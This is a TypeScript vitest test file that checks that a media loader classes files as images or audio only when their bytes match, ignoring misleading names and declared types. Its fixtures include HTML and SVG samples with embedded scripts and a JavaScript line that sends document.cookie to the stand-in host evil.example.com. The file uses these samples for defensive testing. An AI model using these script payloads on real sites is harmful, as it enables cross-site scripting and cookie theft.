/**
 * Content that is not what it claims: an item is an image, audio or video only when its
 * bytes are recognised as one, whatever its name, declared type or `content-type` say.
 */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadMedia, MediaError } from "../../src/index.js";
import { type Harness, serve, startHarness } from "./helpers/harness.js";
import { png } from "./helpers/samples.js";

const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
const JS = Buffer.from("fetch('https://evil.example.com/?c=' + document.cookie);");

let harness: Harness;
let dir: string;

beforeAll(async () => {
  harness = await startHarness();
  dir = mkdtempSync(join(tmpdir(), "outbox-claimed-"));
  writeFileSync(join(dir, "page.png"), HTML);
  writeFileSync(join(dir, "vector.png"), SVG);
  writeFileSync(join(dir, "real.png"), png());
});
afterAll(async () => {
  await harness.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("an item is media only when its bytes say so", () => {
  it.each([
    ["HTML named .png", "page.png"],
    ["SVG with script named .png", "vector.png"],
  ])("a local file: %s is a document", async (_name, file) => {
    const media = await loadMedia(join(dir, file), { workspaceDir: dir, localRoots: [dir] });
    expect(media).toMatchObject({ kind: "document", mimeType: "application/octet-stream" });
  });

  it.each([
    ["HTML", HTML],
    ["SVG with script", SVG],
    ["JavaScript", JS],
  ])("a URL: %s served as image/png and named .png is a document", async (name, bytes) => {
    const path = `/claimed-${name.replace(/\W/g, "")}.png`;
    harness.route(path, serve(bytes, "image/png"));
    const media = await loadMedia(`https://media.outbox.test${path}`, harness.policy());
    expect(media).toMatchObject({ kind: "document", mimeType: "application/octet-stream" });
  });

  it.each([
    ["an attachment", { mimeType: "image/png", data: HTML, fileName: "a.png" }],
    ["a data: URI", `data:image/png;base64,${JS.toString("base64")}`],
    ["audio", { mimeType: "audio/ogg", data: SVG }],
  ])("%s declared as media whose bytes are not is refused", async (_name, ref) => {
    const error = await loadMedia(ref).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(MediaError);
    expect(error).toMatchObject({
      reason: "unsupported-type",
      message: expect.stringMatching(/not a recognised/),
    });
  });

  it("real images stay images, text files stay documents with their type", async () => {
    const policy = { workspaceDir: dir, localRoots: [dir] };
    expect(await loadMedia(join(dir, "real.png"), policy)).toMatchObject({
      kind: "image",
      mimeType: "image/png",
    });
    const text = await loadMedia({ mimeType: "text/plain", data: Buffer.from("hello"), fileName: "a.txt" });
    expect(text).toMatchObject({ kind: "document", mimeType: "text/plain" });
  });
});
